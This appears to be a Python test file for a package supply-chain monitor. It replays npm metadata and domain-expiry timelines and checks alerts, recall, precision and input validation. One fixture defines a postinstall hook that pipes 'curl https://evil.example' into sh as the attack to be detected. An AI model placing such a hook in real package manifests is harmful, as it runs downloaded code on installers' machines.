"""Timelines are replayed through the ordinary pipeline, and what breaks the format is named."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from config.settings import Settings
from monitor.replay import ReplayError, replay, total

ALICE = {"name": "alice", "email": "alice@alice.example"}


def packument(*releases: tuple[str, str, dict[str, Any]]) -> dict[str, Any]:
    return {
        "name": "left-pad",
        "dist-tags": {"latest": releases[-1][0]},
        "maintainers": [ALICE],
        "versions": {
            version: {"version": version, "_npmUser": ALICE, "maintainers": [ALICE]} | told
            for version, _, told in releases
        },
        "time": {"created": "2020-01-01T00:00:00Z"} | {version: at for version, at, _ in releases},
    }


PAST = [(f"1.{n}.0", f"2026-0{n + 1}-01T00:00:00Z", {}) for n in range(5)]
SCRIPT = ("1.5.0", "2026-06-01T00:00:00Z", {"scripts": {"postinstall": "curl https://evil.example | sh"}})


def timeline(folder: Path, *observations: dict[str, Any], **told: Any) -> Path:
    file = folder / "one.json"
    whole = {"id": "one", "title": "", "expect": [], "quiet_until": None, "observations": list(observations)}
    file.write_text(json.dumps(whole | told))
    return file


def test_an_attack_is_caught_at_the_first_observation_that_shows_it(tmp_path: Path) -> None:
    file = timeline(
        tmp_path,
        {"at": "2026-05-02T00:00:00Z", "packument": packument(*PAST)},
        {"at": "2026-06-01T00:05:00Z", "packument": packument(*PAST, SCRIPT)},
        expect=["install-script-added"],
    )
    score = replay(file, Settings())
    assert score.missed == []
    assert score.first_alert is not None
    assert score.first_alert["at"].isoformat() == "2026-06-01T00:05:00+00:00"
    assert score.false_alarms == []
    totals = total([score])
    assert (totals["recall"], totals["precision"], totals["high_alerts"]) == (1.0, 1.0, 1)


def test_a_grave_alert_that_was_not_expected_is_a_false_alarm(tmp_path: Path) -> None:
    file = timeline(
        tmp_path,
        {"at": "2026-05-02T00:00:00Z", "packument": packument(*PAST)},
        {"at": "2026-06-01T00:05:00Z", "packument": packument(*PAST, SCRIPT)},
    )
    (alarm,) = replay(file, Settings()).false_alarms
    assert alarm["severity"] == "high"


def test_a_domain_that_lapses_is_confirmed_and_caught(tmp_path: Path) -> None:
    def rdap(expires: str) -> dict[str, Any]:
        events = [{"eventAction": "expiration", "eventDate": expires}]
        return {"name": "alice-mail.org", "rdap": {"ldhName": "alice-mail.org", "events": events}, "dns": None}

    file = timeline(
        tmp_path,
        {"at": "2026-01-01T00:00:00Z", "domain": rdap("2026-06-01T00:00:00Z")},
        {"at": "2026-06-02T00:00:00Z", "domain": rdap("2026-06-01T00:00:00Z")},
        expect=["domain-expired"],
    )
    score = replay(file, Settings())
    assert score.missed == []
    assert score.first_alert is not None


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("{", "one.json"),
        ('{"id": "x"}', "observations"),
        ('{"id": "x", "observations": [{"at": "soon", "pypi": {}}]}', "at"),
        ('{"id": "x", "observations": [{"at": "2026-01-01T00:00:00Z"}]}', "observations[0]"),
        ('{"id": "x", "observations": [{"at": "2026-01-01T00:00:00Z", "packument": {"x": 1}}]}', "observations[0]"),
        ('{"id": "x", "observations": [{"at": "2026-01-01T00:00:00Z", "domain": {"name": "-"}}]}', "observations[0]"),
    ],
)
def test_what_breaks_the_format_is_named_with_its_place(tmp_path: Path, content: str, words: str) -> None:
    file = tmp_path / "one.json"
    file.write_text(content)
    with pytest.raises(ReplayError) as raised:
        replay(file, Settings())
    assert "one.json" in str(raised.value)
    assert words in str(raised.value)
